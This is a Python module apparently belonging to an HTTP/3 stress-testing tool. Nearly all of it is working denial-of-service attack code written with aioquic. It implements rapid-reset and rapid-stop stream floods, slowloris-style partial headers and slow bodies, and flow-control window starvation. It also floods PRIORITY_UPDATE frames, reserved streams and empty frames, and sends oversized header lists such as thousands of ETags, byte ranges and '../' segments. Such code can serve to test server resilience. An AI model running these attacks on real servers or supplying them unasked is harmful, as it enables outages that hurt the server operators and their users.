"""Attacks by streams and by what is on them. Each is a generator that yields between bursts until it is closed."""

from collections.abc import Iterator, Sequence

from aioquic.buffer import encode_uint_var

import http3
from report import Report
from wire import (
    MAX_DATA,
    MAX_STREAM_DATA,
    RESET_STREAM,
    STOP_SENDING,
    Target,
    Wire,
    frame,
    packed,
    stream_frame,
)

LARGE, SMALL = "/long.mp4", "/small.txt"
REQUEST_CANCELLED = 0x10C
# A server reads files in pieces of this size; the large file has more of them than a connection has requests.
BLOCK = 256 << 10
BLOCKS = 160


def wires(target: Target, report: Report, count: int = 1, **limits) -> list[Wire]:
    """Connections with their control streams open."""
    opened = [Wire(target, **limits).open() for _ in range(count)]
    for wire in opened:
        if wire.closed is None:
            http3.open_control(wire)
    return opened


def again(wire: Wire, target: Target, report: Report, **limits) -> Wire:
    """A new connection in place of one that has ended."""
    report.leave(wire)
    (wire,) = wires(target, report, **limits)
    return wire


def limit(wire: Wire) -> int:
    """The first request stream that may not be opened yet."""
    return 4 * wire.quic._remote_max_streams_bidi


def plain(target: Target, report: Report) -> Iterator[None]:
    """No attack: asks for a small file, one after the other."""
    (wire,) = wires(target, report)
    stream = 0
    try:
        while True:
            if wire.closed is not None:
                wire, stream = again(wire, target, report), 0
            wire.write(stream, http3.request(SMALL), fin=True)
            wire.flush()
            if wire.until(lambda stream=stream: stream in wire.finished):
                report.add("responses")
            wire.finished.clear()
            stream += 4
            yield
    finally:
        report.leave(wire)


def hold(target: Target, report: Report, opened: list[Wire], **limits) -> Iterator[None]:
    """As many requests for a large file as are allowed on each connection, turn after turn."""
    streams = [0] * len(opened)
    try:
        while True:
            for index, wire in enumerate(opened):
                if wire.closed is not None:
                    opened[index], streams[index] = again(wire, target, report, **limits), 0
                    opened[index].quic.reads = False
                    continue
                while streams[index] < limit(wire):
                    # From another place of the file each time.
                    place = (streams[index] // 4 + 40 * index) % BLOCKS * BLOCK
                    request = http3.request(LARGE, [("range", f"bytes={place}-")])
                    wire.write(streams[index], request, fin=True)
                    streams[index] += 4
                    report.add("requests")
                wire.step()
            yield
    finally:
        for wire in opened:
            report.leave(wire)


def never_read(target: Target, report: Report) -> Iterator[None]:
    """Responses of which 300 bytes may come, for as many requests as are allowed."""
    limits = {"max_data": 1 << 20, "max_stream_data": 300}
    opened = wires(target, report, 4, **limits)
    for wire in opened:
        wire.quic.reads = False
    yield from hold(target, report, opened, **limits)


def shut_window(target: Target, report: Report) -> Iterator[None]:
    """Large windows for each response and hardly any for all of them together."""
    limits = {"max_data": 2000, "max_stream_data": 1 << 20}
    opened = wires(target, report, 4, **limits)
    for wire in opened:
        wire.quic.reads = False
    yield from hold(target, report, opened, **limits)


def byte_a_second(target: Target, report: Report) -> Iterator[None]:
    """Each response gets room for one byte more a second."""
    limits = {"max_data": 1 << 20, "max_stream_data": 300}
    opened = wires(target, report, 4, **limits)
    for wire in opened:
        wire.quic.open_windows()
    room = 300
    for turn, _ in enumerate(hold(target, report, opened, **limits)):
        # A hundredth of the streams each hundredth of a second.
        room += turn % 100 == 0
        for wire in opened:
            if wire.closed is None:
                wire.quic.open_windows()
                mine = range(4 * (turn % 100), limit(wire), 400)
                wire.frames(*(frame(MAX_STREAM_DATA, stream, room) for stream in mine))
                report.add("windows", len(mine))
                wire.run(0.0025)
        yield


def one_byte_windows(target: Target, report: Report) -> Iterator[None]:
    """Windows of a hundred responses that open by one byte each, and that of the connection by one for all."""
    limits = {"max_data": 300, "max_stream_data": 1}
    (wire,) = wires(target, report, **limits)
    room, stream = 1, 0
    try:
        while True:
            if wire.closed is not None:
                wire, room, stream = again(wire, target, report, **limits), 1, 0
            while stream < limit(wire):
                wire.write(stream, http3.request(LARGE), fin=True)
                stream += 4
            wire.quic.open_windows()
            for _ in range(20):
                room += 1
                streams = [frame(MAX_STREAM_DATA, one, room) for one in range(0, stream, 4)]
                wire.frames(frame(MAX_DATA, 300 + room), *streams)
                wire.step(0.002)
                report.add("windows")
            yield
    finally:
        report.leave(wire)


def burst(target: Target, report: Report, make, width: int = 100) -> Iterator[None]:
    """Streams as fast as they may be opened, each with what `make` makes for it."""
    (wire,) = wires(target, report)
    stream = 0
    try:
        while True:
            if wire.closed is not None:
                wire, stream = again(wire, target, report), 0
            end = min(stream + 4 * width, limit(wire))
            frames = [one for number in range(stream, end, 4) for one in make(number)]
            for payload in packed(frames):
                wire.payload(payload)
            report.add("streams", (end - stream) // 4)
            stream = end
            wire.step(0.0 if frames else 0.005)
            yield
    finally:
        report.leave(wire)


def rapid_reset(target: Target, report: Report) -> Iterator[None]:
    """Requests that are reset in the packet that brings them."""
    request = http3.request(LARGE)

    def make(stream: int) -> list[bytes]:
        reset = frame(RESET_STREAM, stream, REQUEST_CANCELLED, len(request))
        return [stream_frame(stream, request), reset + frame(STOP_SENDING, stream, REQUEST_CANCELLED)]

    return burst(target, report, make)


def reset_unopened(target: Target, report: Report) -> Iterator[None]:
    """Resets of streams on which nothing was ever sent."""
    return burst(target, report, lambda stream: [frame(RESET_STREAM, stream, REQUEST_CANCELLED, 0)])


def rapid_stop(target: Target, report: Report) -> Iterator[None]:
    """Whole requests whose responses are stopped in the same packet."""
    request = http3.request(LARGE)

    def make(stream: int) -> list[bytes]:
        return [stream_frame(stream, request, fin=True) + frame(STOP_SENDING, stream, REQUEST_CANCELLED)]

    return burst(target, report, make)


def no_request(target: Target, report: Report) -> Iterator[None]:
    """Streams that are opened and ended without a byte."""
    return burst(target, report, lambda stream: [stream_frame(stream, fin=True)])


def half_requests(target: Target, report: Report) -> Iterator[None]:
    """A header section of 60 KB announced on every stream; a byte of it comes each turn."""
    (wire,) = wires(target, report)
    start = encode_uint_var(http3.HEADERS) + encode_uint_var(60_000)
    offset = 0
    try:
        while True:
            if wire.closed is not None:
                wire, offset = again(wire, target, report), 0
            data = start if offset == 0 else b"\0"
            wire.frames(*(stream_frame(stream, data, offset) for stream in range(0, limit(wire), 4)))
            offset += len(data)
            report.add("bytes", len(data))
            wire.step(0.002)
            yield
    finally:
        report.leave(wire)


def slow_bodies(target: Target, report: Report) -> Iterator[None]:
    """A body of 60 KB announced on half of the streams; a byte of each comes every half second."""
    body = http3.request("/upload", [("content-length", "60000")], method="POST")
    body += encode_uint_var(http3.DATA) + encode_uint_var(60_000)
    (wire,) = wires(target, report)
    offset = 0
    try:
        while True:
            if wire.closed is not None:
                wire, offset = again(wire, target, report), 0
            data = body if offset == 0 else b"x"
            wire.frames(*(stream_frame(stream, data, offset) for stream in range(0, limit(wire) // 2, 4)))
            report.add("requests" if offset == 0 else "bytes", limit(wire) // 8)
            offset += len(data)
            wire.run(0.5)
            yield
    finally:
        report.leave(wire)


def priorities(target: Target, report: Report) -> Iterator[None]:
    """PRIORITY_UPDATE for ever: of requests under way, of some to come, and of every value."""
    limits = {"max_data": 1 << 20, "max_stream_data": 300}
    (wire,) = wires(target, report, **limits)
    asked, turn = False, 0
    try:
        while True:
            if wire.closed is not None:
                wire, asked = again(wire, target, report, **limits), False
            if not asked:
                wire.quic.reads = False
                for stream in range(0, limit(wire) // 2, 4):
                    wire.write(stream, http3.request(LARGE), fin=True)
                asked = True
            turn += 1
            update = [
                http3.frame(http3.PRIORITY_UPDATE, encode_uint_var(stream) + f"u={(stream // 4 + turn) % 8}, i".encode())
                for stream in range(0, limit(wire), 4)
            ]
            wire.write(2, b"".join(update))
            wire.until(lambda wire=wire: wire.quic._streams[2].sender.buffer_is_empty, 0.1)
            report.add("updates", len(update))
            yield
    finally:
        report.leave(wire)


def reserved_streams(target: Target, report: Report) -> Iterator[None]:
    """Streams of one direction of a reserved type, ended or reset at once, as fast as they are allowed."""
    (wire,) = wires(target, report)
    stream = 6
    try:
        while True:
            if wire.closed is not None:
                wire, stream = again(wire, target, report), 6
            end = 4 * wire.quic._remote_max_streams_uni + 2
            for number in range(stream, end, 4):
                wire.frames(stream_frame(number, encode_uint_var(http3.RESERVED) + b"x" * 64, fin=number % 8 == 2))
                if number % 8 == 6:
                    wire.frames(frame(RESET_STREAM, number, 0x100, 65))
                report.add("streams")
            stream = max(stream, end)
            wire.step(0.005)
            yield
    finally:
        report.leave(wire)


def empty_frames(target: Target, report: Report) -> Iterator[None]:
    """A request body, a control stream and request streams of frames without payload."""
    (wire,) = wires(target, report)
    data = [http3.frame(http3.DATA) * 2000, http3.frame(http3.RESERVED) * 2000, http3.frame(http3.RESERVED + 0x1F) * 2000]
    started = False
    try:
        while True:
            if wire.closed is not None:
                wire, started = again(wire, target, report), False
            if not started:
                wire.write(0, http3.request(SMALL, method="POST"))
                wire.write(4, http3.request(SMALL, method="POST"))
                started = True
            for stream, frames in zip((0, 4, 2), data, strict=True):
                if stream not in wire.stops and stream not in wire.resets:
                    wire.write(stream, frames)
                # Streams at their end and with nothing in them, again and again.
                wire.frames(*[stream_frame(8 + 4 * one) for one in range(100)], *[stream_frame(8)] * 100)
            report.add("frames", 6000)
            wire.run(0.01)
            wire.until(lambda wire=wire: all(s.sender.buffer_is_empty for s in wire.quic._streams.values()), 0.1)
            yield
    finally:
        report.leave(wire)


ETAGS = ", ".join('"a"' for _ in range(6000))
RANGES = "bytes=" + ",".join(f"{block * 65536}-{block * 65536}" for block in range(200))
# What each is allowed by itself, and might cost most.
COSTLY = {
    "if-none-match": http3.request(SMALL, [("if-none-match", ETAGS)]),
    "if-match": http3.request(SMALL, [("if-match", ETAGS)]),
    "ranges": http3.request(LARGE, [("range", RANGES)]),
    "labels": http3.request(SMALL, authority=".".join("a" * 15000)),
    "segments": http3.request("/" + "a/" * 15000),
    "dots": http3.request("/" + "../" * 10000),
    "encoded-dots": http3.request("/" + "%2e%2e%2f" * 3000),
    "cookies": http3.request(SMALL, [("cookie", "a=b")] * 100),
    "accept-encoding": http3.request(SMALL, [("accept-encoding", ",".join(["br;q=0.1"] * 3000))]),
    "priority": http3.request(SMALL, [("priority", ",".join(["u=1"] * 7000))]),
    "fields": http3.request(SMALL, [(f"x-{number}", "") for number in range(100)]),
}


def costly_requests(target: Target, report: Report, names: Sequence[str] = tuple(COSTLY)) -> Iterator[None]:
    """Header fields that are long lists, one kind after the other."""
    kinds = [COSTLY[name] for name in names]
    (wire,) = wires(target, report)
    stream = 0
    try:
        while True:
            for kind in kinds:
                if wire.closed is not None:
                    wire, stream = again(wire, target, report), 0
                wire.write(stream, kind, fin=True)
                if wire.until(lambda wire=wire, s=stream: s in wire.finished or s in wire.resets):
                    report.add("answered")
                report.add("requests")
                stream += 4
                yield
            wire.finished.clear()
    finally:
        report.leave(wire)


ATTACKS = [
    plain,
    never_read,
    shut_window,
    byte_a_second,
    one_byte_windows,
    rapid_reset,
    reset_unopened,
    rapid_stop,
    no_request,
    half_requests,
    slow_bodies,
    priorities,
    reserved_streams,
    empty_frames,
    costly_requests,
]
